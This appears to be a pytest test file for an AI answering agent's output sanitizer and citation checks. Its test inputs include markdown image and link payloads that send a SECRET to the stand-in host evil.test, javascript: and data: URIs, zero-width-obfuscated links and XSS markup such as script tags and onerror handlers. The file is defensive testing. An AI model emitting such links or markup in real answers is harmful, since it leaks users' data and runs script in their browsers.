import re

import pytest

from agents.answering.sanitizer import REMOVED, Sanitizer, links_in, tags_in
from agents.grounding.citations import cited, only_real, unsupported, used
from tools.schema import Citation

pytestmark = pytest.mark.pure

KNOWN = "https://docs.example.org/guia?a=1"


def guarded(text: str, *, size: int = 1, marks=(1, 2), links=(KNOWN,), tags=()) -> str:
    guard = Sanitizer(marks, links, tags)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(guard.feed(piece) for piece in pieces) + guard.end()


@pytest.mark.parametrize(
    "harmless",
    [
        "Tres modelos [1]. Y dos [2].",
        f"Mira {KNOWN}, o [la guía]({KNOWN}).",
        "La API está en http://127.0.0.1:5000/docs",
        "a < b y c > d, 7 // 2 == 3, a//b",
        "```html\n<div class='x'>\n```\nfin",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_harmless_text_passes_unchanged_however_it_is_cut(harmless, size) -> None:
    assert guarded(harmless, size=size) == harmless


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.test/p.png?d=SECRET)",
        "![un texto largo](https://evil.test/p?d=SECRET)",
        "[pulsa aquí](https://evil.test/?d=SECRET)",
        "[pulsa]( https://evil.test/?d=SECRET )",
        "[x](//evil.test/?d=SECRET)",
        "<https://evil.test/?d=SECRET>",
        "https://evil.test/SECRET",
        "//evil.test/SECRET",
        "ftp://evil.test/SECRET",
        f"{KNOWN}&d=SECRET",
        "[r]: https://evil.test/SECRET",
        "[x](javascript:fetch('//evil.test/SECRET'))",
        "JaVaScRiPt:alert('SECRET')",
        "data:text/html,SECRET",
        "```\n![x](https://evil.test/SECRET)\n```",
        "hxx htt\u200bps://evil.test/SECRET",
        "[x](https://127.0.0.1.evil.test/SECRET)",
        "[x](http://localhost@evil.test/SECRET)",
    ],
)
def test_addresses_that_nobody_gave_are_taken_out(attack) -> None:
    for size in (1, 5, 1000):
        shown = guarded(f"Hola {attack} fin", size=size)
        assert "SECRET" not in shown
        assert REMOVED in shown
        assert shown.startswith("Hola ")


@pytest.mark.parametrize(
    "text",
    [
        "escribe <reset> y pulsa <Enter>",
        "`lista[9]` y `![x]` en línea",
        "vec![1, 2] crea un vector",
        "si a<b y b>c, List<String> vale",
        "<!-- x --> <script>alert(1)</script>",
        "```\n![x] lista[9]\n```",
    ],
)
@pytest.mark.parametrize("size", [1, 4, 1_000])
def test_text_of_a_document_is_quoted_to_the_character(text, size) -> None:
    assert guarded(text, size=size, tags=tags_in([text])) == text


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "</div><iframe srcdoc=x>",
        "<!-- x -->",
        "<IMG SRC=x>",
        "<\u200bscript>alert(1)",
    ],
)
def test_markup_that_nobody_wrote_is_none(markup) -> None:
    assert not re.search(r"<[a-zA-Z/!?]", guarded(f"a {markup} b", tags=tags_in(["escribe <reset>"])))


def test_false_marks_and_invisible_characters_go() -> None:
    assert guarded("Sí [1], no [9], oculto\u200b\u202e \U000e0041.") == "Sí [1], no , oculto ."


def test_links_are_those_written_as_addresses() -> None:
    text = f"ver {KNOWN}. javascript:alert(1) //evil.test/x"
    assert links_in([text]) == {KNOWN}


SOURCES = [
    Citation(
        n=1, title="Modelos", source="m", document_id="m", text="El servidor carga tres modelos a la vez."
    ),
    Citation(n=2, title="Puertos", source="p", document_id="p", text="La API escucha en el puerto 5000."),
    Citation(
        n=3, title="Ports", source="p", document_id="q", text="The API listens on port 5000 of the host."
    ),
]


def test_citations_are_those_used_in_order() -> None:
    assert used("b [2] a [1] b [2]") == [2, 1]
    assert [one.n for one in cited("b [2] a [1] z [7]", SOURCES)] == [2, 1]
    assert only_real("a [1] b [7]", [1]) == "a [1] b "


@pytest.mark.parametrize(
    ("text", "weak"),
    [
        ("El servidor carga tres modelos [1].", set()),
        ("Los gatos duermen mucho de noche [1].", {1}),
        ("El servidor carga tres modelos [1]. Los gatos duermen de noche [2].", {2}),
        ("La API escucha en el 5000 [2][3].", set()),
        ("Carga modelos. [1] El puerto es el 5000. [2]", set()),
    ],
)
def test_citation_must_support_its_sentence(text, weak) -> None:
    assert unsupported(text, SOURCES) == weak
